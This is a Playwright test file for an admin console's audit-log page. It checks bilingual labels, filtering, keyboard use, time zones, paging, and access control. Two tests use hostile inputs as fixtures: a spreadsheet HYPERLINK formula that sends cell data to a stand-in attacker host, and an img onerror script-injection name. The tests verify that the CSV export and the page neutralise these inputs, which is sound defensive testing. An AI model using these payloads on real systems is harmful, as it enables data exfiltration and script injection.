import { readFile } from 'node:fs/promises';
import type { Locator, Page } from '@playwright/test';
import { addServiceAccount, mintKey } from '../console.ts';
import {
  ADMIN_EMAIL,
  expect,
  expectNoAxeViolations,
  pressTabTo,
  type Site,
  test,
  unlessEnglish,
} from './fixtures.ts';

const WORDS = {
  en: {
    title: 'Audit',
    log: 'Audit log',
    search: 'Account, key or package',
    exportCsv: 'Export CSV',
    action: 'Action',
    who: 'Who',
    period: 'Period',
    outcome: 'Outcome',
    today: /^Today, /,
    createdKey: 'Created key',
    changedSettings: 'Changed settings',
    refused: 'Sign-in refused',
    disabledUser: 'Disabled user',
    notSignedIn: 'Not signed in',
    console: 'Console',
    details: (what: string) => new RegExp(`^Details: ${what}, \\d\\d:\\d\\d:\\d\\d$`),
    before: 'Before',
    after: 'After',
    request: 'Request',
    tokenLifetime: 'Token lifetime',
    hour: '1 hour',
    halfHour: '30 minutes',
    openKey: 'Open key',
    openAccount: 'Open account',
    // English names no zone of Asia; people there know theirs by its distance.
    zoneOfTokyo: /Times in GMT\+9\.$/,
    older: 'Load older events',
    nothing: 'Nothing happened in this period',
    clear: 'Clear filters',
    aboutKey: (key: string) => `About key ${key}`,
    removeFilter: (name: string) => `Remove the filter “${name}”`,
    notFound: 'There is no such page',
  },
  ja: {
    title: '監査ログ',
    log: '監査ログ',
    search: 'アカウント・キー・パッケージ',
    exportCsv: 'CSVを書き出す',
    action: '操作',
    who: '実行者',
    period: '期間',
    outcome: '結果',
    today: /^今日、/,
    createdKey: 'キーを作成',
    changedSettings: '設定を変更',
    refused: 'サインインを拒否',
    disabledUser: 'ユーザーを停止',
    notSignedIn: '未サインイン',
    console: 'コンソール',
    details: (what: string) => new RegExp(`^詳細：${what}、\\d\\d:\\d\\d:\\d\\d$`),
    before: '変更前',
    after: '変更後',
    request: 'リクエスト',
    tokenLifetime: 'トークンの有効期間',
    hour: '1時間',
    halfHour: '30分',
    openKey: 'キーを開く',
    openAccount: 'アカウントを開く',
    zoneOfTokyo: /時刻はJSTです。$/,
    older: '古いイベントを読み込む',
    nothing: 'この期間のイベントはありません',
    clear: '絞り込みを解除',
    aboutKey: (key: string) => `キー ${key} について`,
    removeFilter: (name: string) => `絞り込み「${name}」を解除`,
    notFound: 'ページが見つかりません',
  },
} as const;
type Words = (typeof WORDS)['en' | 'ja'];

const PASSWORD = 'lantern orchard seventeen';

async function open(page: Page, words: Words, query = ''): Promise<Locator> {
  await page.goto(`/audit${query}`);
  const log = page.getByRole('table', { name: words.log });
  await expect(log).toBeVisible();
  return log;
}

const rowOf = (log: Locator, text: string | RegExp) => log.getByRole('row').filter({ hasText: text });
/** Rows of events: each has a button for its details, heads and days have none. */
const events = (log: Locator) => log.getByRole('row').filter({ has: log.page().getByRole('button') });

/** Makes a key whose events no other test has: its id. */
async function makeKey(site: Site, comment: string): Promise<string> {
  const admin = await site.signIn();
  const minted = await mintKey(admin, admin.accountId, { comment, access: 'account', lifetimeDays: 90 });
  return minted.key.id;
}

for (const lang of ['en', 'ja'] as const) {
  const words = WORDS[lang];
  test.describe(`the audit log, ${lang}`, unlessEnglish(lang), () => {
    test.use({ lang });

    test('says who did what to which key, in words and by its technical name', async ({
      asAdmin: page,
      town,
    }) => {
      const id = await makeKey(town, `Told in ${lang}`);
      const log = await open(page, words, `?q=${id}`);
      await expect(log.getByRole('rowheader', { name: words.today })).toBeVisible();
      const row = rowOf(log, id);
      await expect(row).toContainText('Mio Tachibana');
      await expect(row).toContainText(words.createdKey);
      await expect(row).toContainText('key.created');
      await expect(row).toContainText(`Told in ${lang}`);
      await expect(row).toContainText(words.console);
      await expectNoAxeViolations(page);
      await row.getByRole('button', { name: words.details(words.createdKey) }).click();
      await expect(log.getByText(words.request, { exact: true })).toBeVisible();
      await expectNoAxeViolations(page);
      await log.getByRole('link', { name: words.openKey }).click();
      await expect(page).toHaveURL(new RegExp(`/keys\\?q=${id}`));
    });

    test('tells a change by its before and after, by keyboard alone', async ({ asAdmin: page, town }) => {
      const { api } = await town.signIn();
      const change = async (tokenLifetimeSeconds: number) =>
        await api.PATCH('/v1/settings', { body: { tokenLifetimeSeconds }, headers: { 'if-match': '*' } });
      await change(1_800);
      await change(3_600);
      const log = await open(page, words, '?action=settings.changed');
      const detailsButton = log.getByRole('button', { name: words.details(words.changedSettings) }).first();
      await pressTabTo(page, detailsButton);
      await page.keyboard.press('Enter');
      await expect(detailsButton).toHaveAttribute('aria-expanded', 'true');
      const detail = rowOf(log, words.request);
      await expect(detail).toContainText(words.before);
      await expect(detail).toContainText(words.after);
      await expect(detail.getByRole('term').first()).toHaveText(words.tokenLifetime);
      await expect(detail.getByRole('definition')).toHaveText([words.halfHour, words.hour]);
      await page.keyboard.press('Enter');
      await expect(detail).toHaveCount(0);
    });

    test('shows who was turned away', async ({ asAdmin: page, town }) => {
      const body = JSON.stringify({
        email: 'priya.raman@hayama.example',
        password: 'seagull lantern coffee',
      });
      await fetch(`${town.apiUrl}/v1/session`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body,
      });
      const log = await open(page, words, '?period=24h');
      await page.getByRole('combobox', { name: words.outcome }).selectOption('refused');
      await expect(page).toHaveURL(/outcome=refused/);
      const row = rowOf(log, 'session.refused').first();
      await expect(row).toContainText(words.refused);
      await expect(row).toContainText(words.notSignedIn);
      await expect(rowOf(log, 'session.created')).toHaveCount(0);
    });

    test('is narrowed by action, person, period and text, and keeps that in its address', async ({
      asAdmin: page,
    }) => {
      const log = await open(page, words);
      await page.getByRole('combobox', { name: words.period }).selectOption('all');
      await page.getByRole('combobox', { name: words.action }).selectOption('account.disabled');
      // Other suites disable accounts of their own in the same town.
      await expect(rowOf(log, words.disabledUser).filter({ hasText: 'Daniel O’Shea' })).toHaveCount(1);
      await expect(events(log).filter({ hasNotText: words.disabledUser })).toHaveCount(0);
      await page.getByRole('combobox', { name: words.action }).selectOption('account.');
      await page.getByRole('combobox', { name: words.who }).fill('okafor');
      await page.getByRole('option', { name: /Amara Okafor/ }).click();
      await expect(events(log)).toHaveCount(1);
      const address = new URL(page.url());
      expect(Object.fromEntries(address.searchParams)).toMatchObject({ period: 'all', action: 'account.' });
      await page.goto(address.href);
      await expect(events(log)).toHaveCount(1);
      await page.getByRole('searchbox', { name: words.search }).fill('no such thing');
      await expect(page.getByText(words.nothing)).toBeVisible();
      await expectNoAxeViolations(page);
      await page.getByRole('button', { name: words.clear }).click();
      await expect(page).toHaveURL(/\/audit$/);
      await expect(page.getByRole('searchbox', { name: words.search })).toHaveValue('');
      await expect(log).toBeVisible();
    });

    test('of one key is opened by its address, and widened again', async ({ asAdmin: page, town }) => {
      const id = await makeKey(town, `Alone in ${lang}`);
      const log = await open(page, words, `?key=${id}`);
      await expect(events(log)).toHaveCount(1);
      await page.getByRole('button', { name: words.removeFilter(words.aboutKey(id)) }).click();
      await expect(page).toHaveURL(/\/audit$/);
      await expect(events(log)).not.toHaveCount(1);
    });

    test('names the zone of its times and tells each in UTC besides', async ({ visit, town }) => {
      const id = await makeKey(town, `Timed in ${lang}`);
      const page = await visit({ as: ADMIN_EMAIL, context: { timezoneId: 'Asia/Tokyo' } });
      const log = await open(page, words, `?key=${id}`);
      await expect(page.getByRole('status').filter({ hasText: words.zoneOfTokyo })).toBeVisible();
      const time = events(log).getByRole('time');
      const iso = (await time.getAttribute('datetime')) ?? '';
      await expect(time).toHaveAttribute('title', `${iso.slice(0, 10)} ${iso.slice(11, 19)} UTC`);
      const tokyo = new Date(Date.parse(iso) + 9 * 3_600_000).toISOString().slice(11, 19);
      await expect(time).toHaveText(tokyo);
    });

    test('goes on with older events below the newer ones', async ({ asAdmin: page }) => {
      const log = await open(page, words, '?period=all');
      await expect(events(log)).toHaveCount(50);
      const first = await events(log).first().textContent();
      await page.getByRole('button', { name: words.older }).click();
      await expect(events(log)).toHaveCount(100);
      expect(await events(log).first().textContent()).toBe(first);
    });

    test('is no page for members', async ({ asMember: page }) => {
      await page.goto('/audit');
      await expect(page.getByText(words.notFound)).toBeVisible();
    });
  });
}

test.describe('the file with the log', () => {
  const words = WORDS.en;

  test('has the events of the filters, and no formula in it', async ({ asAdmin: page, town }) => {
    const admin = await town.signIn();
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const body = { email: 'formula@hayama.example', displayName: formula, password: PASSWORD };
    const { data: user } = await admin.api.POST('/v1/users', { body });
    await addServiceAccount(admin, 'not-in-the-file');
    const minted = await mintKey(admin, user.id, { comment: formula, access: 'account', lifetimeDays: 90 });
    const log = await open(page, words, `?account=${user.id}`);
    await expect(rowOf(log, minted.key.id)).toContainText(formula);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: words.exportCsv }).click(),
    ]);
    expect(download.suggestedFilename()).toMatch(/^keyreeve-audit-\d{4}-\d\d-\d\d\.csv$/);
    const text = await readFile(await download.path(), 'utf8');
    expect(text).toContain(minted.key.id);
    expect(text).not.toContain('not-in-the-file');
    expect(text).toContain(`'=HYPERLINK`);
    // No cell begins as a spreadsheet wants a formula to begin.
    expect(text).not.toMatch(/(?:^|[,\n])"?[=+@\t-]/);
  });

  test('and the page know hostile names as text only', async ({ asAdmin: page, town }) => {
    const { api } = await town.signIn();
    const displayName = '<img src=x onerror="globalThis.hacked=1">';
    const body = { email: 'hostile.audit@hayama.example', displayName, password: PASSWORD };
    const { data: user } = await api.POST('/v1/users', { body });
    const patch = { params: { path: { id: user.id } }, headers: { 'if-match': '*' } };
    await api.PATCH('/v1/users/{id}', { ...patch, body: { displayName: `${displayName}, again` } });
    const log = await open(page, words, '?q=hostile.audit');
    await expect(rowOf(log, 'account.changed')).toContainText(displayName);
    await rowOf(log, 'account.changed').getByRole('button').click();
    await expect(log.getByRole('definition').filter({ hasText: `${displayName}, again` })).toBeVisible();
    expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
  });
});
